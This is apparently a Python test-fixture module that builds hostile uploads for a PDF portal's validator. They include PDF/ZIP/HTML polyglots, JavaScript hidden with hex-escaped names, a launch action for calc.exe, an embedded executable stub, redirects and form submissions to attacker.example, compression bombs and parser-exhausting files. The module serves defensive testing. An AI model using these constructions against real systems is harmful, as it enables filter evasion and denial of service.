"""Small documents built in code, so tests need no binary fixtures.

Besides well-formed agreements, this builds the hostile files an upload form
meets: other formats renamed, damaged and cut-off PDFs, encrypted ones, PDFs
with scripts, actions, attachments or forms, and files made to exhaust a
parser. Each is built from readable parts, so a test shows what it contains.
"""

import hashlib
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from pypdf import PdfReader, PdfWriter

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"


def assemble_pdf(
    objects: list[bytes], *, before_xref: bytes = b"", trailer: bytes = b""
) -> bytes:
    """Return a PDF of the numbered objects (1 being the catalog), with
    `before_xref` placed as it is between them and the cross-reference table,
    and `trailer` as further trailer entries.
    """
    body = bytearray(HEADER)
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    body += before_xref

    xref_at = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        body += b"%010d 00000 n \n" % offset
    body += b"trailer\n<< /Size %d %s/Root 1 0 R >>\n" % (len(objects) + 1, trailer)
    body += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(body)


def stream(dictionary: bytes, data: bytes) -> bytes:
    """Return a stream object with its /Length filled in."""
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (
        dictionary,
        len(data),
        data,
    )


def agreement_objects(
    text: str = "Signed agreement", *, catalog: bytes = b"", page: bytes = b""
) -> list[bytes]:
    """Return the five objects of a one-page agreement; extras go in the
    catalog or page dictionary, and further objects start at number 6."""
    content = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    return [
        b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> %s>>" % page,
        stream(b"", content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def minimal_pdf(text: str = "Signed agreement") -> bytes:
    """Return a small, well-formed one-page PDF with a correct xref table."""
    return assemble_pdf(agreement_objects(text))


def padded_pdf(size: int) -> bytes:
    """Return a well-formed PDF of exactly `size` bytes, padded with a comment
    before the cross-reference table."""

    def padded(padding: int) -> bytes:
        comment = b"%" + b"x" * (padding - 2) + b"\n"
        return assemble_pdf(agreement_objects(), before_xref=comment)

    # The table's offset grows with the padding and may take more digits.
    padding = size - len(minimal_pdf())
    padding -= len(padded(max(padding, 2))) - size
    pdf = padded(padding)
    if padding < 2 or len(pdf) != size:
        raise ValueError(f"no padded PDF is exactly {size} bytes long")
    return pdf


def agreement_with(
    *extra: bytes, catalog: bytes = b"", page: bytes = b"", packed: bool = False
) -> bytes:
    """Return the one-page agreement with extra entries and objects (6, 7...).

    With `packed`, every object that may be is stored in a compressed object
    stream, where only a parser that inflates it can see the entries.
    """
    objects = agreement_objects(catalog=catalog, page=page) + list(extra)
    if not packed:
        return assemble_pdf(objects)
    inside = {n for n, content in enumerate(objects, 1) if b"stream" not in content}
    return assemble_pdf_with_object_stream(objects, inside=inside)


def assemble_pdf_with_object_stream(
    objects: list[bytes],
    *,
    inside: set[int],
    stream_data: bytes | None = None,
    stream_filter: bytes = b"/FlateDecode",
    trailer: bytes = b"",
) -> bytes:
    """Return a PDF 1.5 file whose objects numbered in `inside` live in an
    object stream, indexed by a cross-reference stream whose dictionary
    holds `trailer` as further entries.

    `stream_data` replaces the object stream's encoded content, for files
    whose object stream is not what it claims to be.
    """
    stream_number = len(objects) + 1
    xref_number = len(objects) + 2
    packed = {number: position for position, number in enumerate(sorted(inside))}
    index, content, length = [], [], 0
    for number in packed:
        index.append(b"%d %d " % (number, length))
        content.append(objects[number - 1] + b"\n")
        length += len(content[-1])
    if stream_data is None:
        stream_data = zlib.compress(b"".join(index + content))

    body = bytearray(HEADER)
    offsets = {}
    for number, content_of_object in enumerate(objects, start=1):
        if number not in inside:
            offsets[number] = len(body)
            body += b"%d 0 obj\n%s\nendobj\n" % (number, content_of_object)
    offsets[stream_number] = len(body)
    dictionary = b"/Type /ObjStm /N %d /First %d /Filter %s" % (
        len(packed),
        sum(map(len, index)),
        stream_filter,
    )
    body += b"%d 0 obj\n%s\nendobj\n" % (stream_number, stream(dictionary, stream_data))

    offsets[xref_number] = len(body)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, xref_number + 1):
        if number in inside:
            rows.append(struct.pack(">BIH", 2, stream_number, packed[number]))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    xref = b"/Type /XRef /Size %d /W [1 4 2] %s/Root 1 0 R" % (xref_number + 1, trailer)
    body += b"%d 0 obj\n%s\nendobj\n" % (xref_number, stream(xref, b"".join(rows)))
    body += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(body)


def written_by_pypdf() -> bytes:
    """Return a one-page PDF as pypdf's own writer makes it."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": "Signed agreement"})
    return written(writer)


def incrementally_updated(*, between: bytes = b"") -> bytes:
    """Return a PDF with one incremental update appended, as a signing tool
    or a form filler leaves it: the original bytes, then the changes.

    `between` goes after the original end marker, before the update, whose
    offsets count it, so readers find every object where the tables say.
    """
    writer = PdfWriter(io.BytesIO(minimal_pdf() + between), incremental=True)
    writer.add_metadata({"/Title": "Signed agreement, countersigned"})
    return written(writer)


def encrypted_pdf(*, user_password: str, owner_password: str) -> bytes:
    """Return a one-page PDF encrypted with AES; an empty user password
    opens it for reading but keeps the owner's restrictions."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(minimal_pdf())))
    writer.encrypt(
        user_password=user_password,
        owner_password=owner_password,
        algorithm="AES-256",
    )
    return written(writer)


# What the standard security handler writes, with keys that open nothing.
ENCRYPTION = b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <%s> /U <%s> >>" % (
    b"00" * 32,
    b"00" * 32,
)


def damaged_pdf(*extra: bytes, trailer: bytes = b"", packed: bool = False) -> bytes:
    """Return the agreement with extra objects (6, 7...) and trailer entries,
    its startxref pointing past the end of the file, so no reader finds the
    cross-reference table."""
    objects = agreement_objects() + list(extra)
    if packed:
        pdf = assemble_pdf_with_object_stream(
            objects, inside={1, 2, 3, 5}, trailer=trailer
        )
    else:
        pdf = assemble_pdf(objects, trailer=trailer)
    head = pdf[: pdf.rindex(b"startxref")]
    return head + b"startxref\n%d\n%%%%EOF\n" % (len(pdf) + 1000)


def certificate_encrypted_pdf() -> bytes:
    """Return a PDF encrypted for the holders of certificates, a security
    handler pypdf cannot open."""
    encryption = (
        b"<< /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /Length 128 "
        b"/Recipients [<%s>] >>" % (b"30" * 16)
    )
    return assemble_pdf(
        [*agreement_objects(), encryption],
        trailer=b"/Encrypt 6 0 R /ID [<%s> <%s>] " % (b"ab" * 16, b"ab" * 16),
    )


def written(writer: PdfWriter) -> bytes:
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def zip_archive() -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("agreement.docx", "Signed agreement")
    return output.getvalue()


def png_image() -> bytes:
    """Return a valid 1x1 white PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        checksum = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff"))
        + chunk(b"IEND", b"")
    )


HTML_PAGE = (
    b"<!DOCTYPE html>\n<html><body><script>document.location='https://"
    b"attacker.example/'</script></body></html>\n"
)


def html_with_pdf_signature() -> bytes:
    """Return an HTML page that starts with the PDF signature to pass a sniff."""
    return b"%PDF-1.7\n" + HTML_PAGE


def html_before_pdf() -> bytes:
    """Return an HTML page followed by a real PDF, a file two programs read
    differently."""
    return HTML_PAGE + minimal_pdf()


def truncated_pdf() -> bytes:
    """Return a PDF cut off halfway, as an interrupted download leaves it."""
    pdf = minimal_pdf()
    return pdf[: len(pdf) // 2]


def trailing_data_pdf() -> bytes:
    """Return a PDF with an HTML page appended after its end marker."""
    return minimal_pdf() + HTML_PAGE


def startxref_of(pdf: bytes) -> int:
    return int(pdf.rsplit(b"startxref", 1)[1].split()[0])


def zip_polyglot_pdf() -> bytes:
    """Return a PDF followed by a ZIP archive whose comment repeats the PDF's
    startxref and end marker: a PDF reader finds its table through them, and
    an archive tool finds the archive, which ends in that comment."""
    pdf = minimal_pdf()
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("agreement.docx", "Signed agreement")
        archive.comment = b"\nstartxref\n%d\n%%%%EOF\n" % startxref_of(pdf)
    return pdf + output.getvalue()


def zip_between_objects_pdf() -> bytes:
    """Return a PDF with a ZIP archive between its objects and its
    cross-reference table, before its only end marker."""
    return assemble_pdf(agreement_objects(), before_xref=zip_archive() + b"\n")


def html_in_comment_pdf() -> bytes:
    """Return a PDF with an HTML page in a comment, which PDF readers skip
    and a browser that sniffs the content renders."""
    return assemble_pdf(agreement_objects(), before_xref=comment_of(HTML_PAGE))


def comment_of(text: bytes) -> bytes:
    return b"".join(b"%" + line + b"\n" for line in text.splitlines())


def zip_in_image_pdf() -> bytes:
    """Return a page with an image whose pixels are a ZIP archive, which ZIP
    tools open although it sits in a stream body."""
    return image_pdf(zip_archive())


def zip_signatures_in_image_pdf() -> bytes:
    """Return a page with an image whose pixels hold the three signatures of
    ZIP records among other bytes, as image data may by chance."""
    ramp = bytes(range(0, 256, 4))
    return image_pdf(
        ramp + b"PK\x03\x04" + ramp + b"PK\x01\x02" + ramp + b"PK\x05\x06" + ramp
    )


def image_pdf(pixels: bytes) -> bytes:
    """Return a page that shows a one-row grey image of these pixels,
    deflated without compression so they stay readable in the file."""
    image = stream(
        b"/Type /XObject /Subtype /Image /Width %d /Height 1 /ColorSpace "
        b"/DeviceGray /BitsPerComponent 8 /Filter /FlateDecode" % len(pixels),
        zlib.compress(pixels, 0),
    )
    objects = [*agreement_objects(), image]
    objects[2] = objects[2].replace(b">> >>", b">> /XObject << /Im1 6 0 R >> >>")
    objects[3] = stream(b"", b"q 540 0 0 20 36 700 cm /Im1 Do Q")
    return assemble_pdf(objects)


def pageless_pdf() -> bytes:
    return assemble_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
        ]
    )


SCRIPT = b"app.alert\\('Signed'\\);"


def javascript_in_name_tree(*, packed: bool = False) -> bytes:
    """Return a PDF whose document-level JavaScript runs when it opens."""
    return agreement_with(
        b"<< /Names [(greeting) 7 0 R] >>",
        b"<< /S /JavaScript /JS (%s) >>" % SCRIPT,
        catalog=b"/Names << /JavaScript 6 0 R >> ",
        packed=packed,
    )


def javascript_with_escaped_names(*, packed: bool = False) -> bytes:
    """Return a link that runs JavaScript, every telling name written with
    PDF hex escapes (#61 is "a") so that a byte search does not see it."""
    return agreement_with(
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A 7 0 R >>",
        b"<< /S /J#61v#61Script /#4A#53 (%s) >>" % SCRIPT,
        page=b"/Annots [6 0 R] ",
        packed=packed,
    )


def javascript_in_unlisted_object() -> bytes:
    """Return a PDF with a script object the cross-reference table leaves
    out, which only a reader that repairs files would find."""
    script = b"99 0 obj\n<< /S /JavaScript /JS (%s) >>\nendobj\n" % SCRIPT
    return assemble_pdf(agreement_objects(), before_xref=script)


def open_action_pdf(*, packed: bool = False) -> bytes:
    """Return a PDF that runs an action (here: go to a page) when opened."""
    return agreement_with(
        b"<< /S /GoTo /D [3 0 R /Fit] >>",
        catalog=b"/OpenAction 6 0 R ",
        packed=packed,
    )


def first_page_open_action_pdf() -> bytes:
    """Return a PDF that names the page to show first, as office suites do."""
    return agreement_with(catalog=b"/OpenAction [3 0 R /XYZ null null 0] ")


def launch_action_pdf(*, packed: bool = False) -> bytes:
    """Return a link that starts a program."""
    return agreement_with(
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
        b"/A << /S /Launch /F (calc.exe) >> >>",
        page=b"/Annots [6 0 R] ",
        packed=packed,
    )


GO_TO_FIRST_PAGE = b"<< /S /GoTo /D [3 0 R /Fit] >>"
LINK = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /AA << /E 6 0 R >> >>"
FIELD = (
    b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /P 3 0 R "
    b"/Rect [72 700 300 720] /AA << /K 6 0 R >> >>"
)


def additional_actions_pdf(holder: str, *, packed: bool = False) -> bytes:
    """Return a PDF whose catalog, page, annotation or form field has
    additional actions (/AA), triggered by events such as closing."""
    if holder == "catalog":
        extra, entries = [], {"catalog": b"/AA << /WC 6 0 R >> "}
    elif holder == "page":
        extra, entries = [], {"page": b"/AA << /C 6 0 R >> "}
    elif holder == "annotation":
        extra, entries = [LINK], {"page": b"/Annots [7 0 R] "}
    elif holder == "field":
        extra = [FIELD]
        entries = {
            "catalog": b"/AcroForm << /Fields [7 0 R] >> ",
            "page": b"/Annots [7 0 R] ",
        }
    else:
        raise ValueError(holder)
    return agreement_with(GO_TO_FIRST_PAGE, *extra, packed=packed, **entries)


def embedded_file_pdf(*, packed: bool = False) -> bytes:
    """Return a PDF carrying an executable in its embedded files."""
    return agreement_with(
        b"<< /Names [(setup.exe) 7 0 R] >>",
        b"<< /Type /Filespec /F (setup.exe) /EF << /F 8 0 R >> >>",
        stream(b"/Type /EmbeddedFile", b"MZ not really a program"),
        catalog=b"/Names << /EmbeddedFiles 6 0 R >> ",
        packed=packed,
    )


def file_attachment_annotation_pdf(*, packed: bool = False) -> bytes:
    """Return a page with a file attachment annotation (a paper clip)."""
    return agreement_with(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 90 720] "
        b"/FS << /Type /Filespec /F (setup.exe) >> >>",
        page=b"/Annots [6 0 R] ",
        packed=packed,
    )


def xfa_form_pdf(*, packed: bool = False) -> bytes:
    """Return a PDF with an XFA form, which some readers render instead of
    the pages."""
    template = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>'
    return agreement_with(
        stream(b"", template),
        catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >> ",
        packed=packed,
    )


def rich_media_pdf(*, packed: bool = False) -> bytes:
    """Return a page with a rich media (Flash or video) annotation."""
    return agreement_with(
        b"<< /Type /Annot /Subtype /RichMedia /Rect [72 600 300 720] >>",
        page=b"/Annots [6 0 R] ",
        packed=packed,
    )


def annotation_pdf(entries: bytes, *extra: bytes, packed: bool = False) -> bytes:
    """Return a page with an annotation (object 6) of these entries; further
    objects start at 7."""
    return agreement_with(
        b"<< /Type /Annot %s /Rect [72 700 300 720] >>" % entries,
        *extra,
        page=b"/Annots [6 0 R] ",
        packed=packed,
    )


def link_pdf(action: bytes, *extra: bytes, packed: bool = False) -> bytes:
    """Return a page with a link (object 6) that runs `action`."""
    return annotation_pdf(b"/Subtype /Link /A " + action, *extra, packed=packed)


def uri_link_pdf(target: bytes, *, packed: bool = False) -> bytes:
    """Return a page with a link to `target`, a PDF string as it is written."""
    return link_pdf(b"<< /S /URI /URI %s >>" % target, packed=packed)


def thread_link_pdf(*, packed: bool = False) -> bytes:
    """Return a page with a link to the start of an article thread of its own;
    the thread's /F is its first bead, not a file."""
    return agreement_with(
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
        b"/A << /S /Thread /D 7 0 R /B 8 0 R >> >>",
        b"<< /Type /Thread /F 8 0 R /I << /Title (Terms) >> >>",
        b"<< /Type /Bead /T 7 0 R /N 8 0 R /V 8 0 R /P 3 0 R /R [72 72 540 720] >>",
        catalog=b"/Threads [7 0 R] ",
        page=b"/Annots [6 0 R] /B [8 0 R] ",
        packed=packed,
    )


SOUND = stream(b"/Type /Sound /R 8000 /C 1 /B 8 /E /Raw", bytes(64))
MEDIA_CLIP = (
    b"<< /Type /MediaClip /S /MCD /CT (video/mp4) "
    b"/D << /Type /Filespec /F (intro.mp4) >> >>"
)
# Each is a link's action and the objects it needs, numbered from 7.
EXTERNAL_ACTIONS = {
    "go-to-remote": (b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] /NewWindow true >>",),
    "go-to-embedded": (b"<< /S /GoToE /T << /R /C /N (terms.pdf) >> /D [0 /Fit] >>",),
    "import-data": (b"<< /S /ImportData /F (answers.fdf) >>",),
    "submit-form": (
        b"<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>",
    ),
    "thread-in-other-file": (b"<< /S /Thread /F (other.pdf) /D 0 >>",),
}
MEDIA_ACTIONS = {
    "rendition": (
        b"<< /S /Rendition /OP 0 /R << /Type /Rendition /S /MR /C 7 0 R >> >>",
        MEDIA_CLIP,
    ),
    "movie": (b"<< /S /Movie /T (Introduction) /Operation /Play >>",),
    "sound": (b"<< /S /Sound /Sound 7 0 R >>", SOUND),
    "3d-view": (b"<< /S /GoTo3DView /TA 6 0 R /V /F >>",),
    "rich-media-execute": (
        b"<< /S /RichMediaExecute /TA 6 0 R /CMD << /C (play) >> >>",
    ),
}
# Each is an annotation's entries and the objects they need, from 7 on.
MEDIA_ANNOTATIONS = {
    "screen": (b"/Subtype /Screen /T (Introduction)",),
    "movie": (b"/Subtype /Movie /Movie << /F (intro.mov) >>",),
    "sound": (b"/Subtype /Sound /Sound 7 0 R", SOUND),
    "3d": (b"/Subtype /3D /3DD 7 0 R", stream(b"/Type /3D /Subtype /U3D", b"U3D")),
}


def javascript_in_unlisted_object_stream() -> bytes:
    return unlisted_object_stream_pdf(b"<< /S /JavaScript /JS (%s) >>" % SCRIPT)


def unlisted_object_stream_pdf(packed_object: bytes) -> bytes:
    """Return a PDF with a compressed object stream (99) holding one object
    (100), neither of which the cross-reference table lists."""
    index = b"100 0 "
    orphan = b"99 0 obj\n%s\nendobj\n" % stream(
        b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(index),
        zlib.compress(index + packed_object),
    )
    return assemble_pdf(agreement_objects(), before_xref=orphan)


def gibibytes_of_zeros_deflated(gibibytes: int) -> bytes:
    """Return a zlib stream that inflates to `gibibytes` GiB of zero bytes.

    Each MiB of zeros deflates to the same block once the compressor is
    flushed, so the stream is made by repetition instead of compressing
    gigabytes; the checksum is the Adler-32 of that many zeros.
    """
    mebibyte = bytes(1 << 20)
    compressor = zlib.compressobj(9)
    first = compressor.compress(mebibyte) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(mebibyte) + compressor.flush(zlib.Z_FULL_FLUSH)
    last = compressor.compress(mebibyte) + compressor.flush()
    total = gibibytes << 30
    checksum = struct.pack(">I", ((total % 65521) << 16) | 1)
    return first + repeated * ((gibibytes << 10) - 2) + last[:-4] + checksum


def compression_bomb_pdf() -> bytes:
    """Return a PDF whose catalog sits in an object stream that inflates, in
    two rounds of Flate, to 4 GiB."""
    inner = gibibytes_of_zeros_deflated(4)
    return assemble_pdf_with_object_stream(
        agreement_objects(),
        inside={1, 2, 3, 5},
        stream_data=zlib.compress(inner, 9),
        stream_filter=b"[/FlateDecode /FlateDecode]",
    )


def bomb_in_page_content_pdf() -> bytes:
    """Return a well-formed PDF whose page content inflates to 1 GiB."""
    objects = agreement_objects()
    objects[3] = stream(b"/Filter /FlateDecode", gibibytes_of_zeros_deflated(1))
    return assemble_pdf(objects)


def deeply_nested_pdf(depth: int = 100_000) -> bytes:
    """Return a PDF whose catalog holds arrays nested `depth` levels deep."""
    return agreement_with(catalog=b"/Nested " + b"[" * depth + b"]" * depth + b" ")


def many_objects_pdf(count: int) -> bytes:
    """Return a PDF with `count` more small objects, pointing at each other
    and packed in a compressed object stream."""
    objects = agreement_objects(catalog=b"/Many 6 0 R ")
    objects += [b"[6 0 R %d 0 R]" % (number + 1) for number in range(6, 6 + count)]
    objects[-1] = b"[6 0 R]"
    inside = {n for n, content in enumerate(objects, 1) if b"stream" not in content}
    return assemble_pdf_with_object_stream(objects, inside=inside)


def slow_to_parse_pdf(arrays: int = 150) -> bytes:
    """Return a PDF whose catalog, in a small compressed object stream,
    holds `arrays` arrays of 100,000 numbers each: millions of tokens."""
    numbers = b"[" + b"0 " * 100_000 + b"]"
    objects = agreement_objects(catalog=b"/Numbers [" + numbers * arrays + b"] ")
    return assemble_pdf_with_object_stream(objects, inside={1, 2, 3, 5})


def looping_xref_pdf() -> bytes:
    """Return a PDF whose cross-reference table names itself as the previous
    one, so a naive reader follows it for ever."""
    pdf = minimal_pdf()
    xref_at = pdf.index(b"\nxref\n") + 1
    return pdf.replace(b"/Root 1 0 R >>", b"/Root 1 0 R /Prev %d >>" % xref_at)


@dataclass(frozen=True)
class HostileFile:
    """An upload the portal must refuse, and how it says so."""

    label: str
    build: Callable[[], bytes]
    code: str
    says: str


NOT_A_PDF = "This file is not a PDF"
JAVASCRIPT = "This PDF contains JavaScript"
ACTIONS_ON_EVENTS = "runs actions on events"
ATTACHED = "files attached"
TOO_COMPLEX = "This PDF is too complex to check"
EXPANDS_TOO_FAR = "This PDF holds compressed data that expands far beyond"
PASSWORD = "This PDF is protected by a password"
AFTER_END = "after its end marker"
FOREIGN = "data of another kind, such as an archive or a web page"
ELSEWHERE = "opens other files or sends data elsewhere"
RICH_MEDIA = "rich media"

# Active content, each found where a byte search could see it and again
# inside a compressed object stream, where only the parsed objects show it.
ACTIVE_CONTENT = [
    ("javascript", javascript_in_name_tree, "javascript", JAVASCRIPT),
    ("javascript-escaped", javascript_with_escaped_names, "javascript", JAVASCRIPT),
    ("open-action", open_action_pdf, "open_action", "as soon as it is opened"),
    ("launch", launch_action_pdf, "launch_action", "start another program"),
    *[
        (
            f"additional-actions-{holder}",
            partial(additional_actions_pdf, holder),
            "additional_actions",
            ACTIONS_ON_EVENTS,
        )
        for holder in ("catalog", "page", "annotation", "field")
    ],
    ("embedded-file", embedded_file_pdf, "embedded_file", ATTACHED),
    ("file-attachment", file_attachment_annotation_pdf, "embedded_file", ATTACHED),
    ("xfa", xfa_form_pdf, "xfa_form", "XFA form"),
    ("rich-media", rich_media_pdf, "rich_media", RICH_MEDIA),
    *[
        (f"action-{kind}", partial(link_pdf, *objects), "external_action", ELSEWHERE)
        for kind, objects in EXTERNAL_ACTIONS.items()
    ],
    *[
        (f"action-{kind}", partial(link_pdf, *objects), "rich_media", RICH_MEDIA)
        for kind, objects in MEDIA_ACTIONS.items()
    ],
    *[
        (
            f"annotation-{kind}",
            partial(annotation_pdf, *parts),
            "rich_media",
            RICH_MEDIA,
        )
        for kind, parts in MEDIA_ANNOTATIONS.items()
    ],
    (
        "javascript-link",
        partial(uri_link_pdf, b"(javascript:app.alert\\(1\\))"),
        "javascript",
        JAVASCRIPT,
    ),
]

HOSTILE_FILES = [
    HostileFile("zip", zip_archive, "not_pdf_content", NOT_A_PDF),
    HostileFile("png", png_image, "not_pdf_content", NOT_A_PDF),
    HostileFile("html-signed", html_with_pdf_signature, "not_pdf_content", NOT_A_PDF),
    HostileFile("html-first", html_before_pdf, "data_before_header", "in front of"),
    HostileFile("truncated", truncated_pdf, "truncated", "The file is cut short"),
    HostileFile("trailing-data", trailing_data_pdf, "trailing_data", AFTER_END),
    HostileFile(
        "data-between-revisions",
        partial(incrementally_updated, between=b"hidden payload\n"),
        "trailing_data",
        AFTER_END,
    ),
    HostileFile(
        "zip-between-objects", zip_between_objects_pdf, "foreign_data", FOREIGN
    ),
    HostileFile("html-in-comment", html_in_comment_pdf, "foreign_data", FOREIGN),
    HostileFile(
        "html-in-comments-between-revisions",
        partial(incrementally_updated, between=comment_of(HTML_PAGE)),
        "foreign_data",
        FOREIGN,
    ),
    HostileFile("damaged", damaged_pdf, "unreadable", "damaged and cannot be read"),
    HostileFile(
        "user-password",
        partial(encrypted_pdf, user_password="open sesame", owner_password="owner"),
        "encrypted",
        PASSWORD,
    ),
    HostileFile(
        "owner-password",
        partial(encrypted_pdf, user_password="", owner_password="owner"),
        "encrypted",
        PASSWORD,
    ),
    HostileFile(
        "certificate-encrypted", certificate_encrypted_pdf, "encrypted", PASSWORD
    ),
    HostileFile(
        "damaged-encrypted",
        partial(damaged_pdf, ENCRYPTION, trailer=b"/Encrypt 6 0 R "),
        "encrypted",
        PASSWORD,
    ),
    HostileFile("no-pages", pageless_pdf, "no_pages", "This PDF has no pages"),
    *[
        HostileFile(label, build, code, says)
        for label, build, code, says in ACTIVE_CONTENT
    ],
    *[
        HostileFile(f"{label}-packed", partial(build, packed=True), code, says)
        for label, build, code, says in ACTIVE_CONTENT
    ],
    HostileFile(
        "javascript-unlisted", javascript_in_unlisted_object, "javascript", JAVASCRIPT
    ),
    HostileFile(
        "javascript-unlisted-compressed",
        javascript_in_unlisted_object_stream,
        "javascript",
        JAVASCRIPT,
    ),
    HostileFile(
        "compression-bomb", compression_bomb_pdf, "expands_too_far", EXPANDS_TOO_FAR
    ),
    HostileFile("deep-nesting", deeply_nested_pdf, "too_complex", TOO_COMPLEX),
]


def sha256(content: bytes) -> str:
    return hashlib.sha256(content).hexdigest()
